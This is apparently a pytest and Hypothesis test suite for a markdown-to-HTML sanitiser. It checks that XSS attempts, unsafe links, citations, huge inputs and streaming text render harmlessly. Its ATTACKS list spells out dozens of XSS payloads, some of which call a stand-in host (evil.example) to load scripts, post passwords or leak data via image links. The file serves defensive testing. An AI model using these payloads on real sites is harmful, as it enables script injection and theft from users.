"""Markdown to sanitised HTML: attacks, links, citations, and rendering while the text grows."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from adapters.http import markdown
from adapters.http.markdown import MAX_PARSED_CHARS, Citation, render_markdown, settled_length

ALLOWED = {
    "p",
    "br",
    "hr",
    "strong",
    "em",
    "s",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "a",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}
MEGABYTE = 2**20


class Reader(HTMLParser):
    """What a browser would see: elements, attributes and text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")


def harmless(html: str) -> Reader:
    """The parsed page, after checking that nothing in it can run, load or navigate by itself."""
    page = Reader(html)
    for tag, attributes in page.tags:
        assert tag in ALLOWED
        allowed = {"a": {"href", "title", "rel", "class"}, "ol": {"start"}}.get(tag, set())
        assert attributes.get("class", "cite") == "cite"
        assert set(attributes) <= allowed, attributes
        if tag == "a" and "href" in attributes:
            assert (attributes["href"] or "").lower().startswith(("http://", "https://", "mailto:"))
            assert attributes["rel"] == "nofollow noopener noreferrer"
    return page


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example>",
    "<style>body{background:url(//evil.example)}</style>",
    "<p style='position:fixed' class=x id=y onclick=alert(1)>text</p>",
    "<a href='javascript:alert(1)' target=_blank>x</a>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](data:image/png;base64,AAAA)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example)",
    "[x](//evil.example)",
    "[x](/api/chats)",
    "[x](?a=b)",
    "[x](#top)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example" onmouseover="alert(1))',
    '[x](https://a.example/"><script>alert(1)</script>)',
    '[x](<https://a.example/" onclick=alert(1) x=">)',
    '[<img src=x onerror=alert(1)>](https://a.example "\'><script>alert(1)</script>")',
    "![x](https://evil.example/pixel.png?secret)",
    "![x](javascript:alert(1))",
    "![x][y]\n\n[y]: https://evil.example/pixel.png",
    "[![x](https://evil.example/pixel.png)](https://a.example)",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "|a|\n|:-:|\n|b|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "a\x00<script\x00>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "<scr\u0131pt>alert(1)</scr\u0131pt>",
    "\ufeff<script>alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_becomes_harmless(attack: str) -> None:
    harmless(render_markdown(attack))


@given(st.text(alphabet="<>[]()!`*_#\"'=&;:/\\ \n\tabjsx", max_size=60))
def test_any_text_is_harmless(text: str) -> None:
    harmless(render_markdown(text))


@given(st.lists(st.sampled_from([*ATTACKS, "\n\n", "[", "](", ")", "`", "**", "> ", "- ", "a"]), max_size=6))
def test_attacks_put_together_are_harmless(parts: list[str]) -> None:
    harmless(render_markdown("".join(parts)))


def test_html_is_shown_as_text() -> None:
    assert harmless(render_markdown("<b>bold</b> <script>x</script>")).text == "<b>bold</b> <script>x</script>\n"


@pytest.mark.parametrize("address", ["http://a.example/x", "https://a.example/?q=1&r=2", "mailto:help@a.example"])
def test_a_good_link_stays_a_link(address: str) -> None:
    page = harmless(render_markdown(f"[here]({address})"))
    assert [attributes["href"] for tag, attributes in page.tags if tag == "a"] == [address]
    assert page.text == "here\n"


def test_an_image_becomes_a_link_that_nothing_loads() -> None:
    page = harmless(render_markdown("![a cat](https://a.example/cat.png)"))
    assert [tag for tag, _ in page.tags] == ["p", "a"]
    assert "a cat" in page.text


def test_addresses_in_plain_text_stay_text() -> None:
    assert (
        render_markdown("see www.a.example and https://a.example") == "<p>see www.a.example and https://a.example</p>\n"
    )


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a **b** _c_ ~~d~~ `e`", "<p>a <strong>b</strong> <em>c</em> <s>d</s> <code>e</code></p>\n"),
        ("a\nb", "<p>a<br>\nb</p>\n"),
        ("# t", "<h1>t</h1>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>\n'),
        ("```py\n1 < 2\n```", "<pre><code>1 &lt; 2\n</code></pre>\n"),
        ("你好 **世界**", "<p>你好 <strong>世界</strong></p>\n"),
        ("", ""),
    ],
)
def test_markdown_is_rendered(text: str, html: str) -> None:
    assert render_markdown(text) == html


def test_a_table_is_rendered() -> None:
    page = harmless(render_markdown("|a|b|\n|-|-|\n|1|2|"))
    assert [tag for tag, _ in page.tags] == ["table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"]


LARGE = {
    "letters": "x",
    "opening brackets": "[",
    "half links": "[](",
    "half images": "![",
    "stars": "*",
    "words half bold": "**a _b ",
    "backticks": "` `` ",
    "quotes": "> ",
    "list marks": "- ",
    "tags": "<a ",
    "line ends": "\n",
    "table rows": "|x|y|\n",
    "entities": "&amp;",
    "references": "[a]: x\n",
}


@pytest.mark.parametrize("unit", LARGE.values(), ids=LARGE)
def test_a_megabyte_is_not_parsed_but_shown_as_it_is(unit: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(_: Any) -> str:
        raise AssertionError("parsed")

    monkeypatch.setattr(markdown._parser, "render", refuse)
    text = (unit * (MEGABYTE // len(unit)))[:MEGABYTE] + "<script>"
    html = render_markdown(text)
    assert len(html) <= 7 * len(text)
    assert html.startswith("<p>")
    assert html.endswith("&lt;script&gt;</p>\n")


@pytest.mark.parametrize("unit", LARGE.values(), ids=LARGE)
def test_thousands_of_any_mark_are_harmless(unit: str) -> None:
    html = render_markdown(unit * 2_000)
    harmless(html)
    assert len(html) < 40 * len(unit) * 2_000


@pytest.mark.parametrize("open, close", [("[", "]"), ("> ", ""), ("- ", ""), ("*", "*"), ("[a](", ")"), ("**", "**")])
def test_deep_nesting_is_harmless(open: str, close: str) -> None:
    harmless(render_markdown(open * 1_000 + "x" + close * 1_000))


def test_a_text_just_over_the_limit_keeps_lines_and_signs() -> None:
    text = "a < b\n" * (MAX_PARSED_CHARS // 6 + 1) + "end"
    assert harmless(render_markdown(text)).text == text + "\n"


# --- growing text ---

growing = st.text(alphabet="`~ab \n", max_size=80)


@given(growing)
def test_a_settled_part_is_empty_or_ends_with_a_blank_line(text: str) -> None:
    settled = text[: settled_length(text)]
    assert settled == "" or settled.endswith("\n")
    assert settled == "" or settled.split("\n")[-2].strip() == ""


@given(growing, st.integers(0, 80))
def test_a_settled_part_stays_settled(text: str, cut: int) -> None:
    assert settled_length(text[:cut]) <= settled_length(text)


@given(growing)
def test_nothing_is_settled_inside_a_code_block(text: str) -> None:
    html = render_markdown(text[: settled_length(text)] + "MARK")
    before = html[: html.index("MARK")]
    assert before.count("<pre>") == before.count("</pre>")


@given(st.text(max_size=60))
def test_any_text_has_a_settled_part_within_it(text: str) -> None:
    assert 0 <= settled_length(text) <= len(text)


@pytest.mark.parametrize(
    ("text", "settled"),
    [
        ("", ""),
        ("one", ""),
        ("one\n", ""),
        ("one\n\n", "one\n\n"),
        ("one\n\ntwo", "one\n\n"),
        ("one\n  \ntwo\n\n", "one\n  \ntwo\n\n"),
        ("```\na\n\nb", ""),
        ("```\na\n\nb\n```\n\nc", "```\na\n\nb\n```\n\n"),
        ("````\n```\n\n````\n\n", "````\n```\n\n````\n\n"),
        ("~~~\n```\n\n~~~\n\n", "~~~\n```\n\n~~~\n\n"),
        ("``` a`b\n\nc", "``` a`b\n\n"),
        ("one\u2028\u2028two", ""),
    ],
)
def test_a_growing_text_settles_at_its_last_blank_line(text: str, settled: str) -> None:
    assert text[: settled_length(text)] == settled


CITED = (Citation(1, 'Say "hi" <b>', "https://shop.example/a?b=1&c=2"), Citation(12, "Evil", "javascript:alert(1)"))


def test_marks_of_citations_are_links_to_them() -> None:
    html = render_markdown("Thirty days. [1] See [2], `[1]` and [1](https://other.example).", CITED)
    harmless(html)
    assert html.count('class="cite"') == 1
    assert '<a href="https://shop.example/a?b=1&amp;c=2" title="Say &quot;hi&quot; &lt;b&gt;" class="cite"' in html
    assert "See [2], <code>[1]</code>" in html
    assert '<a href="https://other.example"' in html


def test_a_citation_leads_to_nothing_but_pages() -> None:
    html = render_markdown("See [12].", CITED)
    harmless(html)
    assert "javascript" not in html


@given(st.text("[]()1<>!\\`: \nab"))
@example("[a]()")
def test_any_text_with_citations_is_harmless(text: str) -> None:
    harmless(render_markdown(text, CITED))
